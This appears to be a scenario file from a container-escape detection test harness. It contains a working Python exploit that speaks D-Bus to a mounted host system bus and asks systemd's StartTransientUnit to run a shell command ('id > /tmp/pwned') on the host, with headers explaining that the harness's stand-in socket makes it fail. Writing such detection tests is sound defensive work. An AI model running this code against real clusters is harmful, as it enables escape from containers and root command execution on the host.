# category: container-escape
# technique: T1543.002
# art: no
# expect: container-runtime-socket
# image: debian
# setup: runtime_socket
# opts: --bind ../../docker.sock:/run/dbus/system_bus_socket
# desc: a pod with the node's /run mounted (hostPath) talks to the host's system bus from python to have systemd start a transient unit running a command on the host (what systemd-run does): the D-Bus SASL handshake, then Hello and org.freedesktop.systemd1.Manager.StartTransientUnit; it also tries systemd's private socket. Here the bus socket is the harness's stand-in, which answers HTTP and so fails the handshake, and /run/systemd/private does not exist: nothing is started
# note: ../../ is the scenario's scratch directory on the host ($EXR_STATE of tests/lib/container.sh): layer commands run in $EXR_STATE/ov/layer, and runc resolves a relative bind source against the bundle, $EXR_STATE/bundles/NAME
python3 - <<'PY'
import os, socket, struct

def pad(b, n):
    return b + bytes(-len(b) % n)

class W:
    """A little-endian D-Bus marshaller for the few types used here."""
    def __init__(self):
        self.b = b""
    def align(self, n):
        self.b = pad(self.b, n)
    def u32(self, v):
        self.align(4); self.b += struct.pack("<I", v)
    def s(self, v, sig=False):
        v = v.encode()
        if sig:
            self.b += bytes([len(v)]) + v + b"\0"
        else:
            self.u32(len(v)); self.b += v + b"\0"
    def array(self, align, fill):
        self.u32(0); at = len(self.b); self.align(align); start = len(self.b)
        fill(); self.b = self.b[:at - 4] + struct.pack("<I", len(self.b) - start) + self.b[at:]

def message(serial, path, iface, member, dest, sig=None, body=b""):
    w = W()
    def fields():
        for code, typ, val in ((1, "o", path), (2, "s", iface), (3, "s", member), (6, "s", dest)) + (((8, "g", sig),) if sig else ()):
            w.align(8); w.b += bytes([code]); w.s(typ, sig=True); w.s(val, sig=(typ == "g"))
    w.b = b"l" + bytes([1, 0, 1]) + struct.pack("<II", len(body), serial)
    w.array(8, fields)
    w.align(8)
    return w.b + body

def start_transient_unit():
    w = W()
    w.s("exray-heldout.service"); w.s("fail")
    def props():
        w.align(8); w.s("ExecStart"); w.s("a(sasb)", sig=True)
        def cmds():
            w.align(8); w.s("/bin/sh")
            w.array(4, lambda: [w.s(a) for a in ("/bin/sh", "-c", "id > /tmp/pwned")])
            w.u32(0)
        w.array(8, cmds)
    w.array(8, props)
    w.array(8, lambda: None)
    return w.b

def try_bus(path):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        s.connect(path)
    except OSError as e:
        print(f"{path}: {e.strerror}"); return
    s.sendall(b"\0AUTH EXTERNAL " + str(os.getuid()).encode().hex().encode() + b"\r\n")
    answer = s.recv(4096)
    print(f"{path}: bus answered {answer[:40]!r}")
    if not answer.startswith(b"OK "):
        print(f"{path}: not a D-Bus daemon, handshake refused"); return
    s.sendall(b"BEGIN\r\n")
    s.sendall(message(1, "/org/freedesktop/DBus", "org.freedesktop.DBus", "Hello", "org.freedesktop.DBus"))
    s.sendall(message(2, "/org/freedesktop/systemd1", "org.freedesktop.systemd1.Manager", "StartTransientUnit",
                      "org.freedesktop.systemd1", "ssa(sv)a(sa(sv))", start_transient_unit()))
    print(f"{path}: StartTransientUnit sent:", s.recv(4096)[:60])

try_bus("/run/dbus/system_bus_socket")
try_bus("/run/systemd/private")
PY
